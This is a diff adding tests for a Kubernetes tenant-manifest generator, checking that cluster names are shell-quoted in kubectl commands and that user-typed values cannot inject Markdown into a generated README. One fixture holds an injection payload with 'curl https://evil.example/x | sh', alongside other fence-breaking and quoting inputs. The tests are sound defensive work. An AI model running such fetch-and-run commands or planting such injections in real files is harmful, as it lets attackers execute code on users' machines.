@@ -7,8 +7,10 @@ import {
 } from '../__testUtils__/onboardingFleet';
 import { objectsOfPlan, TenantPlan } from '../TenantPlan';
 import { planTenant } from '../planTenant';
+import { codeSpan } from '../../markdown/codeSpan';
 import { CredentialReference } from './ManifestOptions';
 import { manifestsOf } from './manifestsOf';
+import { labelOf } from '../tenantNames';
 import { TenantRequest } from '../TenantRequest';
 
 function planOf(parts: Partial<TenantRequest> = {}): TenantPlan {
@@ -89,6 +91,30 @@ function built(files: Map<string, string>, name: string): unknown[] {
 }
 
 describe('manifestsOf', () => {
+  it.each([
+    ['eu-west', 'eu-west'],
+    [
+      'arn:aws:eks:eu-west-1:1:cluster/shop',
+      'arn:aws:eks:eu-west-1:1:cluster/shop',
+    ],
+    ['it’s $HOME', `'it’s $HOME'`],
+    [`a'b`, `'a'\\''b'`],
+  ])(
+    'name the context of the cluster %s as the portal does',
+    (name, context) => {
+      const { plan } = planTenant(
+        request({ clusters: [{ cluster: name, namespaces: ['payments'] }] }),
+        fleet({ clusters: [cluster(name)] }),
+      );
+      const [readme] = manifestsOf(plan!, {
+        credential: { type: 'existing-secret' },
+      });
+      expect(readme.content).toContain(
+        `kubectl --context ${context} apply -k overlays/${labelOf(name)}\n`,
+      );
+    },
+  );
+
   it.each<[string, Partial<TenantRequest>]>([
     ['two clusters', {}],
     ['one cluster', { clusters: [BOTH[0]] }],
@@ -167,6 +193,35 @@ describe('manifestsOf', () => {
         ],
       },
     });
+  });
+
+  it.each([
+    ['vault`.\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n<!--'],
+    ['`](https://evil.example)<b>'],
+    ['``` x'],
+  ])('has nothing in the README read that somebody typed: %j', text => {
+    const readme = (typed: string) =>
+      filesOf(planOf(), {
+        type: 'external-secret',
+        store: typed,
+        remoteKeys: { credentials: typed },
+      }).get('README.md')!;
+    const shown = codeSpan(text);
+    expect(readme(text)).toBe(
+      readme('vault').replaceAll('`vault`', () => shown),
+    );
+    expect(shown).not.toContain('\n');
+  });
+
+  it('has no name of a cluster read as Markdown', () => {
+    const name = '<!-- ```\n# x';
+    const { plan } = planTenant(
+      request({ clusters: [{ cluster: name, namespaces: ['payments'] }] }),
+      fleet({ clusters: [cluster(name)] }),
+    );
+    const readme = filesOf(plan!).get('README.md')!;
+    expect(readme).toContain('- ````<!-- ```?# x````: make the Secret');
+    expect(readme).toContain("````bash\nkubectl --context '<!-- ```\n# x'");
   });
 
   it('leaves a place for a sealed secret', () => {
